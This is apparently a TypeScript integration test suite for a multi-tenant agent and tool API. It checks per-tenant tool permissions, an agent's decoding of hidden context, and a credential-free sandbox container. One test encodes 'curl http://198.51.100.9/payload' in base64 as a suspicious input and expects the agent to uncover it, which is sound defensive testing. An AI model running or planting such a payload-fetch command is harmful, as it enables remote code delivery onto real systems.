import { request } from "node:https";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeConnections } from "../../infra/access/connection.ts";
import { dsmilOk } from "./harness/dsmil.ts";
import { onNode, onNodeOk, untilHealthy } from "./harness/fleet.ts";

let ca: string;
const keys: Record<string, string> = {};
beforeAll(async () => {
  await untilHealthy();
  ca = await onNodeOk("node-b", "cat", "/etc/dsmil/ca/ca.crt");
  for (const tenant of ["alpha", "bravo"]) {
    keys[tenant] = (await dsmilOk("tenant", "key", tenant)).stdout.trim().split("\n").at(-1) ?? "";
  }
});
afterAll(closeConnections);

interface Answer {
  readonly status: number;
  readonly body: Record<string, unknown>;
}

/** Asks the API at the balancer. */
function asked(tenant: string, method: "GET" | "POST", path: string, body?: object): Promise<Answer> {
  const headers = { authorization: `Bearer ${keys[tenant]}`, "content-type": "application/json" };
  return new Promise((resolve, reject) => {
    const asking = request({ host: "172.20.0.20", port: 8001, path, method, headers, ca }, (response) => {
      const chunks: Buffer[] = [];
      response.on("data", (chunk: Buffer) => chunks.push(chunk));
      response.on("end", () => {
        const text = Buffer.concat(chunks).toString("utf8");
        resolve({ status: response.statusCode ?? 0, body: JSON.parse(text) as Answer["body"] });
      });
    });
    asking.once("error", reject);
    asking.end(body && JSON.stringify(body));
  });
}

describe("tools and agents, at the balancer", () => {
  it("are alpha's by its policy, and not bravo's", async () => {
    const input = { address: "10.1.2.3" };
    expect(await asked("alpha", "POST", "/v1/tools/ip_info", input)).toMatchObject({
      status: 200,
      body: { outcome: "ok", output: { class: "private" }, decision: { record: { writer: "l7-agent-alpha" } } },
    });
    expect(await asked("bravo", "POST", "/v1/tools/ip_info", input)).toMatchObject({
      status: 403,
      body: { error: { code: "tool_not_allowed" } },
    });
    const { body } = await asked("bravo", "GET", "/v1/tools");
    expect((body.tools as { allowed: boolean }[]).some(({ allowed }) => allowed)).toBe(false);
  });

  it("follow the playbook into what is hidden, and make nothing up with a model that knows nothing", async () => {
    const context = `run ${Buffer.from("curl http://198.51.100.9/payload").toString("base64")}`;
    const { body } = await asked("alpha", "POST", "/v1/agent/runs", { goal: "What is this?", context });
    expect(JSON.stringify(body.report)).toContain("curl http://198.51.100.9/payload");
    const model = await asked("alpha", "POST", "/v1/agent/runs", { goal: "What is this?", planner: "model" });
    expect(model.body).toMatchObject({ result: "no_decision", report: { facts: [] } });
  });

  it("run in a container without credentials that may write nothing but its folder on the bus", async () => {
    const { stdout } = await onNode(
      "node-b",
      "docker",
      "exec",
      "dsmil-l7-tools",
      "sh",
      "-c",
      "touch /x /tmp/x; ls /run/dsmil; true",
    );
    expect(stdout.trim().split("\n").sort()).toEqual(["policy", "policy-shared"]);
  });
});
